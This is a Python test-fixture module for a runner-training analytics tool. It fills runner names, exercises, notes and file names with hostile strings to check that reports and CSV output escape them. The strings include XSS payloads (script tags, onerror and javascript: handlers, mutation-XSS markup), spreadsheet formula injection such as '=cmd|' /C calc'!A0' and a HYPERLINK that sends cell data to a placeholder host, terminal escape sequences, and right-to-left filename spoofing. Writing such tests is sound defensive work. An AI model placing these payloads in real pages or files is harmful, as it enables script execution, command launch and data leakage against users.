"""Text that means harm, as somebody may type it or a file may hold it, and a squad whose logs are full of it.

Whatever runs sets the page's title to OWNED or opens a dialog; every address is one that answers nowhere.
"""

import csv
import fcntl
import os
import re
import unicodedata
from collections.abc import Callable, Iterator
from datetime import date
from itertools import count
from pathlib import Path

import pytest

from runfix_analytics import night, reports
from runfix_analytics.delta_tables import bucket_of
from runfix_analytics.runner_lists import RUNNER_COLUMNS
from runfix_analytics.sample_files import AcheAnswer, SheetRow, ache_form_csv, strength_sheet_csv
from runfix_analytics.store import Store

TEMPLATES = Path(reports.__file__).parent / "templates"
OWNED = "owned"
DAY = date(2026, 6, 28)
EVERYTHING = "everything"  # the runner whose one sheet holds every text
LONG_WORD = 300
_RUN = f"document.title='{OWNED}'"
_ELSEWHERE = "http://example.invalid/x"
_MAX_FILE_NAME = 180  # bytes, before the ending: file systems hold 255
_NOT_IN_FILE_NAMES = str.maketrans({"/": "\u2215", "\x00": None})

MARKUP = {
    "script": f"<script>{_RUN}</script>",
    "dialog": "<script>alert(1)</script>",
    "closing tags": f"</title></style></svg></td></table></main><script>{_RUN}</script>",
    "closing style": f'</style><svg onload="{_RUN}">',
    "image": f'"><img src=x onerror="{_RUN}">',
    "handler": f'\' onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x=\'',
    "unquoted handler": f"x onmouseover={_RUN} autofocus onfocus={_RUN} tabindex=1",
    "frame": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "link": f'<a href="javascript:{_RUN}">press</a>',
    "bare link": f"javascript:{_RUN}",
    "other page": f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'><base href={_ELSEWHERE}>",
    "style sheet": f"<link rel=stylesheet href={_ELSEWHERE}><style>@import url({_ELSEWHERE}); body{{display:none}}",
    "form": f"<form action={_ELSEWHERE}><input autofocus onfocus={_RUN}><button>Send</button>",
    "foreign content": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<img src=1 onerror={_RUN}>">',
    "drawing": f"]]><svg><foreignObject><script>{_RUN}</script></foreignObject><animate onbegin={_RUN}>",
    "entities": "&lt;script&gt;&#60;b&#62;&amp; <b>bold</b> & <!-- <![CDATA[",
    "template": "{{ 7*7 }}{% raw %}{# x #}${7*7}<%= 7*7 %>",
    "quotes": "\"'`“”´\\\"\\'&quot;",
    "console markup": "[bold]loud[/bold] [/] [link=x] %s {0} --root",
    "toml": '"""\n[exercises.x]\nname = "x" # \\',
}
FORMULAS = {
    "sum": "=1+1",
    "program": "=cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "blanks": "   =1+1",
    "unseen first": "\u200b\ufeff=1+1",
    "fetching": f'=HYPERLINK("{_ELSEWHERE}?"&A1,"press")',
    "cells": 'a,=1+1;=1+1\t=1+1"\n=1+1',
}
UNSEEN = {
    "controls": f"a{''.join(map(chr, range(1, 0x20)))}\x7fb",
    "nul": "a\x00b",
    "colour": "\x1b[31mred\x1b[0m\x07\x1b[2J",
    "terminal link": f"\x1b]8;;{_ELSEWHERE}\x1b\\press\x1b]8;;\x1b\\",
    "terminal title": f"\x1b]0;{OWNED}\x07",
    "c1": f"a\x9b31mb\x85c\x9d0;{OWNED}\x9c",
    "direction": "abc\u202egnp.exe\u202c \u2066x\u2067y\u2069 \u200fz\u061c",
    "zero width": "pl\u200ban\u200ck\u200d \u2060\ufeff\u00ad",
    "tags": "plank\U000e0041\U000e0042\U000e007f",
    "separators": "a\u2028b\u2029c\u00a0d",
    "private use": "a\ue000b\U000f0000",
}
LONG = {
    "combining": f"e{chr(0x301) * 200}{''.join(f'Z{chr(0x300 + i) * 9}' for i in range(9))}",
    "long word": "W" * LONG_WORD,
    "long text": "long " * 700,
}
HOSTILE = MARKUP | FORMULAS | UNSEEN | LONG
IN_TEXT_FILES = tuple(kind for kind in HOSTILE if kind != "nul")  # a file that holds NUL is no text and not read


def marked(kind: str) -> str:
    """The text of a kind with the kind behind it, so that each differs and can be found again."""
    return f"{HOSTILE[kind]} {marker(kind)}"


def marker(kind: str) -> str:
    """One harmless word that stands behind a text of this kind."""
    return f"kind-{kind.replace(' ', '-')}"


def unseen_in(text: str) -> list[str]:
    """The characters of a text that nobody sees or that turn the writing round, line ends left out, by code point."""
    is_unseen = {"Cc", "Cf", "Co", "Cs", "Zl", "Zp"}
    return sorted({f"U+{ord(char):04X}" for char in text if char != "\n" and unicodedata.category(char) in is_unseen})


def template_words(page: str) -> tuple[set[str], set[str]]:
    """The elements and the attributes that our own templates write, in lower case; no others belong on a page.

    `page`: its path below reports/; only the squad's page has a script and what that writes.
    """
    source = "".join(path.read_text(encoding="utf-8") for path in TEMPLATES.rglob("*.j2")).lower()
    elements = {"tbody", *re.findall(r"<([a-z][a-z0-9]*)", source)}
    names = set(re.findall(r"""\s([a-z0-9:-]+)=["']""", source))
    if page == "index.html":
        return elements, {*names, "hidden", "aria-sort"}
    return elements - {"script", "button", "input", "select", "option"}, names


def hostile_store(tmp_path_factory: pytest.TempPathFactory, run_night: Callable[..., night.Done]) -> Store:
    """The squad after one night; made once for all xdist workers, so read it only."""
    base = tmp_path_factory.getbasetemp()
    shared = base.parent if os.environ.get("PYTEST_XDIST_WORKER") else base
    root, finished = shared / "hostile_store", shared / "hostile_store.finished"
    with (shared / "hostile_store.lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not finished.exists():
            _write_squad(Store.create(root))
            run_night(root, DAY)
            finished.touch()
    return Store(root)


def runner_ids() -> dict[str, str]:
    """Kind of text → id of the runner who has it as name, exercise, place, note and file name; and of `EVERYTHING`.

    All ids fall into one bucket, which makes the night short.
    """
    one_bucket = (f"made{number}" for number in count() if bucket_of(f"made{number}") == 0)
    return dict(zip((*HOSTILE, EVERYTHING), one_bucket, strict=False))


def _write_squad(store: Store) -> None:
    ids = runner_ids()
    names = {runner: marked(kind) if kind in HOSTILE else kind for kind, runner in ids.items()}
    _write_csv(store.root / "runners.csv", [RUNNER_COLUMNS, *([runner, *[""] * 6] for runner in ids.values())])
    _write_csv(store.root / "names.csv", [("runner_id", "name"), *names.items()])
    for kind, runner in ids.items():
        inbox = store.root / "inbox" / runner
        files = _files(kind) if kind in HOSTILE else {"everything.csv": _sheet(*map(marked, IN_TEXT_FILES))}
        for name, content in files.items():
            store.write_private(inbox / name, content.encode())
    for kind in HOSTILE:  # an inbox of nobody is named as the night's failure
        (store.root / "inbox" / _file_name(marked(kind))).mkdir()


def _files(kind: str) -> dict[str, str]:
    """Logs that are read, rows that are rejected, and a file that no reader knows, all named by the text."""
    text = marked(kind)
    name = _file_name(text)
    return {
        f"{name}.csv": _sheet(text, "plank"),
        f"{name} aches.csv": ache_form_csv(_answers(text)),
        f"{name} other.txt": f"{text}\n",
    }


def _sheet(*exercises: str) -> str:
    days = [DAY.replace(day=day) for day in (2, 5, 9, 12, 16, 19, 23, 26)]
    good = [SheetRow(day, exercise, 2, 10, notes=exercise) for day in days for exercise in exercises]
    rejected = [SheetRow(DAY, "plank", 2, 10, side=exercise) for exercise in exercises]
    return strength_sheet_csv([*good, *rejected])


def _answers(text: str) -> Iterator[AcheAnswer]:
    """An ache at a place that nobody knows, one that goes on at a known place, and one whose words cannot be read."""
    said = {"exercise_that_hurt": text, "notes": text}
    yield AcheAnswer("", text, DAY.replace(day=20), DAY.replace(day=19), "gradual", text, "left", 4, 5, **said)
    yield AcheAnswer("", "a2", DAY.replace(day=21), DAY.replace(day=18), "gradual", "shin", "left", 4, 5, **said)
    yield AcheAnswer(
        "", "a3", DAY.replace(day=27), None, text, "knee", text, 3, 4, status=text, linked_report_id=text, **said
    )


def _file_name(text: str) -> str:
    """A text as a file system may hold it: all but the slash and NUL."""
    return text.translate(_NOT_IN_FILE_NAMES).encode()[:_MAX_FILE_NAME].decode(errors="ignore")


def _write_csv(path: Path, rows: list[tuple[str, ...] | list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
